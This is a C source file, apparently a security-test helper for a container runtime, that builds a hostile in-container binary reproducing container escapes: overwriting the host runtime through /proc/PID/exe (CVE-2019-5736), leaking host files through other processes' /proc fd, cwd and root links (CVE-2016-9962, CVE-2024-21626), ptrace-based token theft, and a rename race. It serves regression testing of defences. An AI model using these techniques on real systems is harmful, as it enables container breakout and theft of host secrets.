/* attack: what a hostile container process does, for tests/security.
 *
 * Built static by make (check_PROGRAMS); tests/security/helpers.bash
 * copies it into the attacker's rootfs as /bin/attack. Every subcommand prints one line
 * per finding on stdout (flushed at once), so a test can read what the
 * attacker achieved; nothing here decides whether a test passes.
 *
 *   attack hunt-exe STOPFILE SECONDS [PID]
 *       The CVE-2019-5736 attacker. Scans /proc/[0-9]*\/exe (only PID's with
 *       PID) for a binary that is neither its own nor /bin/busybox, keeps an
 *       O_PATH fd of each one it finds ("GOT pid=P dev:ino"), and keeps
 *       re-opening /proc/self/fd/N for writing (O_WRONLY|O_APPEND) and
 *       appending "PWNED-BY-CONTAINER": "WROTE dev:ino" on success.  ETXTBSY
 *       (the binary still runs) is retried.  When STOPFILE exists or SECONDS
 *       have passed it makes one last attempt per binary and prints
 *       "FINAL dev:ino open=ERRNO|ok write=ERRNO|ok|-", then "DONE got=N".
 *       Also prints "OPENFAIL pid=P ERRNO" once per pid whose exe link it
 *       could not open.
 *   attack fd-scan SECRET_ABS SECONDS
 *       The CVE-2016-9962 / CVE-2024-21626 attacker. For SECONDS, walks
 *       every other process's /proc/P/fd/N, /proc/P/cwd and /proc/P/root and tries to read the
 *       host file SECRET_ABS through it: "/proc/P/root" + SECRET_ABS, and
 *       "../" x 0..10 + basename(SECRET_ABS) from each directory. Prints
 *       "LEAK via PATH: FIRST-LINE" for each success, "SEEN P" once per
 *       foreign pid, then "DONE scans=N".
 *   attack ptrace-seize TOKEN SECRET_ABS SECONDS
 *       The attacker of a container given CAP_SYS_PTRACE: for SECONDS,
 *       PTRACE_SEIZEs and interrupts every new pid it sees (stopping it
 *       as early as it can), prints "SEIZED P" (or "NOSEIZE P ERRNO"),
 *       for every fd the process holds "FDIN P N PATH" when it is that
 *       file of the container's own tree, else "FD P N TARGET", tries to
 *       read SECRET_ABS's basename through each ("LEAK via ..."), and
 *       prints "ENVLEAK P" when its /proc/P/environ holds TOKEN; then
 *       detaches. Ends with "DONE seized=N".
 *   attack exchange A B STOPFILE SECONDS
 *       renameat2(A, B, RENAME_EXCHANGE) in a loop until STOPFILE exists or
 *       SECONDS have passed; prints "DONE swaps=N errors=M".
 *   attack write PATH TEXT
 *       open(PATH, O_WRONLY|O_TRUNC) without O_CREAT, write TEXT: prints
 *       "ok" or the errno name of the failing step.
 *   attack no-openat2 PROGRAM [ARG...]
 *       Not an attack: runs PROGRAM (the runtime, on the host) under a
 *       seccomp filter that fails openat2 with ENOSYS, as on kernels before
 *       5.6, so the tests also cover the runtime's fallback resolver. Needs
 *       CAP_SYS_ADMIN (no no_new_privs is set).
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static const char *
errname (int e)
{
  const char *n = strerrorname_np (e);
  static char buf[32];
  if (n)
    return n;
  snprintf (buf, sizeof buf, "E%d", e);
  return buf;
}

static double
now (void)
{
  struct timespec ts;
  clock_gettime (CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int
usage (void)
{
  fputs ("usage: attack hunt-exe STOPFILE SECONDS [PID] | fd-scan SECRET SECONDS\n"
         "       attack exchange A B STOPFILE SECONDS | write PATH TEXT\n",
         stderr);
  return 2;
}

/* ---- hunt-exe ---- */

struct held
{
  int fd;
  dev_t dev;
  ino_t ino;
  int last_open, last_write; /* 0: ok, -1: not tried */
  int wrote;
};

static int
try_write (struct held *h)
{
  char path[64];
  static const char marker[] = "PWNED-BY-CONTAINER\n";
  int fd;

  snprintf (path, sizeof path, "/proc/self/fd/%d", h->fd);
  fd = open (path, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd < 0)
    {
      h->last_open = errno;
      h->last_write = -1;
      return -1;
    }
  h->last_open = 0;
  if (write (fd, marker, sizeof marker - 1) < 0)
    h->last_write = errno;
  else
    {
      h->last_write = 0;
      if (!h->wrote)
        printf ("WROTE %u:%u:%lu\n", major (h->dev), minor (h->dev), (unsigned long) h->ino);
      h->wrote = 1;
    }
  close (fd);
  return 0;
}

static int
cmd_hunt_exe (const char *stop, double secs, int only_pid)
{
  struct held held[MAX_HELD];
  int nheld = 0;
  char failed[65536] = { 0 };
  struct stat self, bb;
  double end = now () + secs;

  if (stat ("/proc/self/exe", &self) < 0)
    return 1;
  if (stat ("/bin/busybox", &bb) < 0)
    bb = self;
  while (access (stop, F_OK) != 0 && now () < end)
    {
      DIR *d = opendir ("/proc");
      struct dirent *de;

      while (d != NULL && (de = readdir (d)) != NULL)
        {
          char path[64];
          int pid = atoi (de->d_name), fd;
          struct stat st;
          int dup_ = 0;

          if (pid <= 0 || pid == getpid () || (only_pid > 0 && pid != only_pid))
            continue;
          snprintf (path, sizeof path, "/proc/%d/exe", pid);
          fd = open (path, O_PATH | O_CLOEXEC);
          if (fd < 0)
            {
              if (errno != ENOENT && pid < (int) sizeof failed && !failed[pid])
                {
                  failed[pid] = 1;
                  printf ("OPENFAIL pid=%d %s\n", pid, errname (errno));
                }
              continue;
            }
          if (fstat (fd, &st) < 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino)
              || (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino))
            {
              close (fd);
              continue;
            }
          for (int i = 0; i < nheld; i++)
            if (held[i].dev == st.st_dev && held[i].ino == st.st_ino)
              dup_ = 1;
          if (dup_ || nheld == MAX_HELD)
            {
              close (fd);
              continue;
            }
          held[nheld] = (struct held){ fd, st.st_dev, st.st_ino, -1, -1, 0 };
          printf ("GOT pid=%d %u:%u:%lu\n", pid, major (st.st_dev), minor (st.st_dev),
                  (unsigned long) st.st_ino);
          nheld++;
        }
      if (d != NULL)
        closedir (d);
      for (int i = 0; i < nheld; i++)
        try_write (&held[i]);
    }
  for (int i = 0; i < nheld; i++)
    {
      try_write (&held[i]);
      printf ("FINAL %u:%u:%lu open=%s write=%s\n", major (held[i].dev), minor (held[i].dev),
              (unsigned long) held[i].ino, held[i].last_open ? errname (held[i].last_open) : "ok",
              held[i].last_write < 0 ? "-" : held[i].last_write ? errname (held[i].last_write) : "ok");
    }
  printf ("DONE got=%d\n", nheld);
  return 0;
}

/* ---- fd-scan ---- */

static void
try_read (int dirfd, const char *rel, const char *how)
{
  char buf[256];
  int fd = openat (dirfd, rel, O_RDONLY | O_CLOEXEC);
  ssize_t n;

  if (fd < 0)
    return;
  n = read (fd, buf, sizeof buf - 1);
  close (fd);
  if (n <= 0)
    return;
  buf[n] = '\0';
  buf[strcspn (buf, "\n")] = '\0';
  printf ("LEAK via %s: %s\n", how, buf);
}

static void
try_dir (const char *link, const char *base)
{
  int fd = open (link, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  char rel[512] = "";

  if (fd < 0)
    return;
  for (int up = 0; up <= 10; up++)
    {
      char how[700];
      size_t len = strlen (rel);
      snprintf (rel + len, sizeof rel - len, "%s", base);
      snprintf (how, sizeof how, "%s/%s", link, rel);
      try_read (fd, rel, how);
      rel[len] = '\0';
      strcat (rel, "../");
    }
  close (fd);
}

static int
cmd_fd_scan (const char *secret, double secs)
{
  char copy[4096];
  const char *base;
  double end = now () + secs;
  long scans = 0;
  char seen[65536] = { 0 };

  snprintf (copy, sizeof copy, "%s", secret);
  base = basename (copy);
  while (now () < end)
    {
      DIR *d = opendir ("/proc");
      struct dirent *de;

      scans++;
      while (d != NULL && (de = readdir (d)) != NULL)
        {
          char path[4200];
          int pid = atoi (de->d_name);
          DIR *fdd;
          struct dirent *fe;

          if (pid <= 0 || pid == getpid ())
            continue;
          if (pid < (int) sizeof seen && !seen[pid])
            {
              seen[pid] = 1;
              printf ("SEEN %d\n", pid);
            }
          snprintf (path, sizeof path, "/proc/%d/root%s", pid, secret);
          try_read (AT_FDCWD, path, path);
          snprintf (path, sizeof path, "/proc/%d/cwd", pid);
          try_dir (path, base);
          snprintf (path, sizeof path, "/proc/%d/fd", pid);
          fdd = opendir (path);
          while (fdd != NULL && (fe = readdir (fdd)) != NULL)
            {
              if (fe->d_name[0] == '.')
                continue;
              snprintf (path, sizeof path, "/proc/%d/fd/%s", pid, fe->d_name);
              try_dir (path, base);
            }
          if (fdd != NULL)
            closedir (fdd);
        }
      if (d != NULL)
        closedir (d);
    }
  printf ("DONE scans=%ld\n", scans);
  return 0;
}

/* ---- ptrace-seize ---- */

static const char *secret_base;

/* Stop a new process as early as we can, then read what it holds. */
static void
inspect (int pid, const char *token)
{
  char path[64], buf[65536], link[4096];
  DIR *d;
  struct dirent *e;
  ssize_t n;
  int fd;

  snprintf (path, sizeof path, "/proc/%d/environ", pid);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0)
    {
      n = read (fd, buf, sizeof buf - 1);
      close (fd);
      if (n > 0)
        {
          buf[n] = '\0';
          for (ssize_t i = 0; i < n; i++)
            if (buf[i] == '\0')
              buf[i] = '\n';
          if (strstr (buf, token) != NULL)
            printf ("ENVLEAK %d\n", pid);
        }
    }
  snprintf (path, sizeof path, "/proc/%d/fd", pid);
  d = opendir (path);
  while (d != NULL && (e = readdir (d)) != NULL)
    {
      char p2[300];
      if (e->d_name[0] == '.')
        continue;
      snprintf (p2, sizeof p2, "/proc/%d/fd/%s", pid, e->d_name);
      struct stat held, here;
      int h;
      n = readlink (p2, link, sizeof link - 1);
      if (n < 0)
        continue;
      link[n] = '\0';
      /* The same file as that path in our own root: the container's. */
      h = open (p2, O_PATH | O_CLOEXEC);
      if (h >= 0 && fstat (h, &held) == 0 && link[0] == '/' && stat (link, &here) == 0
          && held.st_dev == here.st_dev && held.st_ino == here.st_ino)
        printf ("FDIN %d %s %s\n", pid, e->d_name, link);
      else
        printf ("FD %d %s %s\n", pid, e->d_name, link);
      if (h >= 0)
        close (h);
      if (secret_base != NULL)
        try_dir (p2, secret_base);
    }
  if (d != NULL)
    closedir (d);
}

static int
cmd_ptrace_seize (const char *token, const char *secret, double secs)
{
  char copy[4096];
  snprintf (copy, sizeof copy, "%s", secret);
  secret_base = basename (copy);
  double end = now () + secs;
  static char seen[1 << 22];
  long seized = 0;

  seen[getpid ()] = 1;
  while (now () < end)
    {
      DIR *d = opendir ("/proc");
      struct dirent *de;

      while (d != NULL && (de = readdir (d)) != NULL)
        {
          int pid = atoi (de->d_name), st;
          if (pid <= 0 || pid >= (int) sizeof seen || seen[pid])
            continue;
          seen[pid] = 1;
          if (syscall (SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, pid, 0, 0) < 0)
            {
              printf ("NOSEIZE %d %s\n", pid, errname (errno));
              inspect (pid, token);
              continue;
            }
          seized++;
          syscall (SYS_ptrace, 0x4207 /* PTRACE_INTERRUPT */, pid, 0, 0);
          waitpid (pid, &st, __WALL);
          printf ("SEIZED %d\n", pid);
          inspect (pid, token);
          syscall (SYS_ptrace, 17 /* PTRACE_DETACH */, pid, 0, 0);
        }
      if (d != NULL)
        closedir (d);
    }
  printf ("DONE seized=%ld\n", seized);
  return 0;
}

/* ---- exchange ---- */

static int
cmd_exchange (const char *a, const char *b, const char *stop, double secs)
{
  double end = now () + secs;
  long swaps = 0, errors = 0;

  while (now () < end)
    {
      for (int i = 0; i < 256; i++)
        if (renameat2 (AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
          swaps++;
        else
          errors++;
      if (access (stop, F_OK) == 0)
        break;
    }
  /* Leave the names as they started. */
  if (swaps % 2)
    renameat2 (AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
  printf ("DONE swaps=%ld errors=%ld\n", swaps, errors);
  return 0;
}

static int
cmd_write (const char *path, const char *text)
{
  int fd = open (path, O_WRONLY | O_TRUNC | O_CLOEXEC);
  if (fd < 0)
    {
      printf ("%s\n", errname (errno));
      return 0;
    }
  if (write (fd, text, strlen (text)) < 0)
    printf ("%s\n", errname (errno));
  else
    puts ("ok");
  close (fd);
  return 0;
}

static int
cmd_no_openat2 (char **argv)
{
#ifndef __NR_openat2
#define __NR_openat2 437
#endif
  struct sock_filter f[] = {
    BPF_STMT (BPF_LD | BPF_W | BPF_ABS, offsetof (struct seccomp_data, nr)),
    BPF_JUMP (BPF_JMP | BPF_JEQ | BPF_K, __NR_openat2, 0, 1),
    BPF_STMT (BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
    BPF_STMT (BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog prog = { sizeof f / sizeof f[0], f };

  if (syscall (SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0)
    {
      perror ("attack no-openat2: seccomp");
      return 1;
    }
  execv (argv[0], argv);
  perror ("attack no-openat2: exec");
  return 127;
}

int
main (int argc, char **argv)
{
  int r;

  setvbuf (stdout, NULL, _IOLBF, 0);
  if (argc < 2)
    return usage ();
  if (strcmp (argv[1], "no-openat2") == 0 && argc > 2)
    return cmd_no_openat2 (argv + 2);
  if (strcmp (argv[1], "hunt-exe") == 0 && (argc == 4 || argc == 5))
    r = cmd_hunt_exe (argv[2], atof (argv[3]), argc == 5 ? atoi (argv[4]) : 0);
  else if (strcmp (argv[1], "fd-scan") == 0 && argc == 4)
    r = cmd_fd_scan (argv[2], atof (argv[3]));
  else if (strcmp (argv[1], "ptrace-seize") == 0 && argc == 5)
    r = cmd_ptrace_seize (argv[2], argv[3], atof (argv[4]));
  else if (strcmp (argv[1], "exchange") == 0 && argc == 6)
    r = cmd_exchange (argv[2], argv[3], argv[4], atof (argv[5]));
  else if (strcmp (argv[1], "write") == 0 && argc == 4)
    r = cmd_write (argv[2], argv[3]);
  else
    return usage ();
  fflush (stdout);
  return r;
}
